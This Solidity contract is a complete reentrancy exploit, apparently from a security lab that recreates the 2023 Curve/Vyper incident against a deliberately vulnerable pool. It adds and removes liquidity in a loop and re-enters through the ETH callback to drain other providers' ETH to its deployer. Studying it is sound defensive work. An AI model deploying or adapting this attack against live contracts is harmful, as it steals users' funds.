// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ReentrantEthPool} from "../vulnerable/ReentrantEthPool.sol";

/// @title ReentrancyAttack — drains a ReentrantEthPool (Curve/Vyper 2023 shape)
/// @notice One transaction, `attack()` sent with the attacker's ETH: add it as
/// liquidity, then `ROUNDS` times remove all LP and, inside the ETH callback,
/// re-add the ETH just received (the broken per-function lock lets this
/// through) at the depressed LP price; finally remove everything and send the
/// ETH to the deployer. Each round takes a larger share of the other providers'
/// ETH. While the pool is paused the first `addLiquidity` reverts.
contract ReentrancyAttack {
    uint256 public constant ROUNDS = 6;

    address public immutable owner;
    ReentrantEthPool public immutable pool;
    bool private _reenter;

    error NoProfit(uint256 spent, uint256 received);

    constructor(ReentrantEthPool pool_) {
        owner = msg.sender;
        pool = pool_;
    }

    function attack() external payable returns (uint256 received) {
        pool.addLiquidity{value: msg.value}();
        _reenter = true;
        for (uint256 i = 0; i < ROUNDS; i++) {
            pool.removeLiquidity(pool.balanceOf(address(this)));
        }
        _reenter = false;
        pool.removeLiquidity(pool.balanceOf(address(this)));
        received = address(this).balance;
        if (received <= msg.value) revert NoProfit(msg.value, received);
        (bool ok,) = owner.call{value: received}("");
        require(ok, "payout failed");
    }

    receive() external payable {
        if (_reenter && msg.sender == address(pool)) {
            pool.addLiquidity{value: msg.value}();
        }
    }
}
